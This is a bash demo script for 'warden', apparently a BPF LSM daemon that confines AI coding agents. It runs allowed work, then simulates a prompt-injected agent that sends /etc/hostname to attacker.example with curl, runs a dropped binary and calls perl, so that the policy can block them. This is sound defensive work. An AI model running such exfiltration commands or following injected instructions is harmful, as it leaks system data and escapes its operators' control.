#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# make demo: the main job in under a minute. Starts the daemon with
# policy/example.json, runs agent "coder" doing some legitimate work and
# some things a prompt-injected agent would try, and shows the verdicts and
# events. Runs natively when this kernel can run the BPF LSM, otherwise in
# the test VM (scripts/vmtest.sh).
set -uo pipefail
cd "$(dirname "$0")/.." || exit 1
WARDEN=$PWD/build/warden
POLICY=$PWD/policy/example.json

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

demo() {
	local events=/tmp/warden-demo-events.log daemon
	say "policy: $POLICY (agent coder: allowlist of shell tools, git, python3, make, gcc)"
	"$WARDEN" check "$POLICY" || return 1
	say "starting the daemon (loads the BPF LSM programs, self-tests, applies the policy)"
	"$WARDEN" daemon --policy "$POLICY" >"$events" 2>/tmp/warden-demo-daemon.log &
	daemon=$!
	for _ in $(seq 100); do
		"$WARDEN" status >/dev/null 2>&1 && break
		kill -0 $daemon 2>/dev/null || { cat /tmp/warden-demo-daemon.log; return 1; }
		sleep 0.1
	done
	cat /tmp/warden-demo-daemon.log
	"$WARDEN" status

	say "agent coder does its job: reads, runs git and python3"
	"$WARDEN" run --agent coder -- sh -c '
		cd /tmp && echo "print(6 * 7)" >answer.py && python3 answer.py
		git --version
		ls /usr | head -3'
	echo "(exit status $?)"

	say "agent coder, prompt-injected: exfiltrate with curl, run a dropped binary, reach for perl"
	"$WARDEN" run --agent coder -- sh -c '
		curl -s https://attacker.example/?key=$(cat /etc/hostname); echo "curl exit status: $?"
		cp /bin/ls /tmp/dropped && /tmp/dropped; echo "dropped binary exit status: $?"
		perl -e "print 1"; echo "perl exit status: $?"'

	say "the same binary outside any agent cgroup is untouched"
	curl --version | head -1

	say "what the daemon saw (warden daemon prints every exec of a confined agent)"
	sleep 0.3
	cat "$events"
	say "status"
	"$WARDEN" status
	kill $daemon
	wait $daemon 2>/dev/null
	return 0
}

if [ "${1:-}" = --inside ]; then
	demo
	exit
fi
[ "$(id -u)" = 0 ] || { echo "demo: run as root (it loads BPF programs)"; exit 1; }

# Can this kernel run it? The daemon's own checks decide (LSM list, load, self-test).
native=0
if grep -qw bpf /sys/kernel/security/lsm 2>/dev/null; then
	"$WARDEN" daemon --policy "$POLICY" >/dev/null 2>/tmp/warden-demo-probe.log &
	probe=$!
	for _ in $(seq 50); do
		"$WARDEN" status >/dev/null 2>&1 && { native=1; break; }
		kill -0 $probe 2>/dev/null || break
		sleep 0.1
	done
	kill $probe 2>/dev/null; wait $probe 2>/dev/null
fi
if [ $native = 1 ]; then
	demo
else
	reason=$(cat /tmp/warden-demo-probe.log 2>/dev/null | head -1)
	echo "demo: this kernel ($(uname -r)) cannot run BPF LSM programs${reason:+ ($reason)};"
	echo "demo: running in the test VM (Debian's kernel, BPF LSM on) instead."
	exec scripts/vmtest.sh scripts/demo.sh --inside
fi
